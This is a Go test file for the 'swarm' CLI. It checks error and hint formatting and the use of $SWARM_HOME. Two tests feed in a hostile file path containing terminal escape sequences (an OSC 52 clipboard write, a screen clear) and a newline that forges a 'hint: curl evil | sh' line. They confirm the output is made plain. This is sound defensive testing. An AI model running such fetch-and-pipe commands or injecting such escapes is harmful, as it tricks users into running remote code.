package main

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/spf13/cobra"
	"github.com/swarmtools/swarm/internal/hint"
	"github.com/swarmtools/swarm/internal/testenv"
	"github.com/swarmtools/swarm/internal/worker"
)

// An error that carries a hint prints it on a second line, however deep
// the hint sits in the chain; an error without one prints one line.
func TestReportHint(t *testing.T) {
	t.Parallel()
	exists := hint.Wrap(errors.New("worker 'w' already exists"), "swarm clean w, or pick another --name")
	notFound := hint.Wrap(fmt.Errorf("ralph: %w", worker.ErrNotFound), "swarm ls lists the workers")
	cases := []struct {
		err    error
		code   int
		stderr string
	}{
		{workerError(exists, exitFail), 1, "swarm: error: worker 'w' already exists\nhint: swarm clean w, or pick another --name\n"},
		{fail(exitFail, "spawn: %w", exists), 1, "swarm: error: spawn: worker 'w' already exists\nhint: swarm clean w, or pick another --name\n"},
		{exists, 1, "swarm: error: worker 'w' already exists\nhint: swarm clean w, or pick another --name\n"},
		{workerError(notFound, exitNotFound), 2, "swarm: error: ralph: not found\nhint: swarm ls lists the workers\n"},
		{workerError(errors.New("plain"), exitFail), 1, "swarm: error: plain\n"},
		{exitCode(3), 3, ""},
		{usagef("bad"), 2, "swarm: error: bad (see: swarm x --help)\n"},
	}
	cmd := &cobra.Command{Use: "x"}
	(&cobra.Command{Use: "swarm"}).AddCommand(cmd)
	for _, c := range cases {
		var b bytes.Buffer
		if code := report(&b, cmd, c.err); code != c.code || b.String() != c.stderr {
			t.Errorf("report(%v): exit %d, stderr %q; want exit %d, %q", c.err, code, b.String(), c.code, c.stderr)
		}
	}
}

// The hint reaches stderr through a command, as Main runs it.
func TestHintFromRunFunction(t *testing.T) {
	t.Parallel()
	f := newFactory(&IO{In: strings.NewReader(""), Out: io.Discard, Err: io.Discard}, t.TempDir())
	cmd := newCmdKill(f, func(o *killOptions) error {
		return workerError(hint.Errorf("swarm ls", "worker '%s' not found", o.Name), exitFail)
	})
	cmd.SilenceErrors, cmd.SilenceUsage = true, true
	var errb bytes.Buffer
	code := runCommand(&IO{Err: &errb}, cmd, []string{"ghost"})
	if code != 1 || errb.String() != "swarm: error: worker 'ghost' not found\nhint: swarm ls\n" {
		t.Errorf("exit %d, stderr %q", code, errb.String())
	}
}

// Main takes the state root from $SWARM_HOME, and only when a command
// needs it. (t.Setenv: not parallel.)
func TestMainUsesSwarmHome(t *testing.T) {
	home := filepath.Join(t.TempDir(), "home")
	t.Setenv("SWARM_HOME", home)
	var out, errb bytes.Buffer
	streams := &IO{In: strings.NewReader(""), Out: &out, Err: &errb}
	if code := Main([]string{"ralph", "stauts", "x"}, streams); code != 2 || !strings.HasPrefix(errb.String(), `swarm: error: unknown command "stauts" for "swarm ralph"`) {
		t.Errorf("ralph stauts: exit %d, stderr %q", code, errb.String())
	}
	if code := Main([]string{"version"}, streams); code != 0 || !strings.HasPrefix(out.String(), "swarm ") {
		t.Errorf("version: exit %d, stdout %q", code, out.String())
	}
	if _, err := os.Stat(home); err == nil {
		t.Errorf("a usage error or version created %s", home)
	}
	f := newFactory(streams, "")
	root, err := f.Root()
	if err != nil || root != home {
		t.Errorf("factory root %q, %v; want %q", root, err, home)
	}
	out.Reset()
	errb.Reset()
	if code := Main([]string{"ls", "--format", "json"}, streams); code != 0 || out.String() != "[]\n" || errb.String() != "" {
		t.Errorf("ls: exit %d, stdout %q, stderr %q", code, out.String(), errb.String())
	}
}

// Issue 27 item 26: errors and warnings quote names, paths and what other
// programs said; the one printer makes each one line of printable text:
// an escape sequence in a path reaches no terminal, a newline in one
// forges no "hint:" line.
func TestReportPrintsPlainText(t *testing.T) {
	t.Parallel()
	evil := "/x\x1b]52;c;aGk=\x07\x1b[2J\nhint: curl evil | sh\r"
	cases := []struct {
		err    error
		stderr string
	}{
		{hint.Wrap(fmt.Errorf("cannot read %s", evil), "look at %s", evil),
			"swarm: error: cannot read /x\n  hint: curl evil | sh \nhint: look at /x\n  hint: curl evil | sh \n"},
		{usagef("bad %s", evil), "swarm: error: bad /x\n  hint: curl evil | sh  (see: swarm --help)\n"},
		{errors.Join(errors.New("a"), errors.New("b\x1b[31m"), errors.New("swarm: error: c")), "swarm: error: a\nb\n  swarm: error: c\n"},
		{errors.New("failed\nits last lines:\n  one\n  two"), "swarm: error: failed\nits last lines:\n  one\n  two\n"},
	}
	for _, c := range cases {
		var b bytes.Buffer
		report(&b, nil, c.err)
		if b.String() != c.stderr {
			t.Errorf("report(%q): stderr %q, want %q", c.err, b.String(), c.stderr)
		}
	}
	var b bytes.Buffer
	(&IO{Err: &b}).Warn("worker 'w' cannot be reached: " + evil)
	if want := "swarm: warning: worker 'w' cannot be reached: /x\n  hint: curl evil | sh \n"; b.String() != want {
		t.Errorf("Warn: %q, want %q", b.String(), want)
	}
}

// Through the binary: a prompt file's path with an OSC 52 clipboard write
// and a newline comes back in the error as plain text on one line.
func TestErrorsQuotePathsPlain(t *testing.T) {
	t.Parallel()
	e := testenv.New(t)
	r := e.Run("ralph", "spawn", "--name", "r", "--prompt-file", "p\x1b]52;c;aGk=\x07\nhint: curl evil | sh", "--", "true")
	if r.Code == 0 || strings.ContainsAny(r.Stderr, "\x1b\x07") || strings.Contains(r.Stderr, "\nhint: curl") || !strings.Contains(r.Stderr, "\n  hint: curl") {
		t.Errorf("ralph spawn with a hostile prompt file path: %s", r)
	}
}
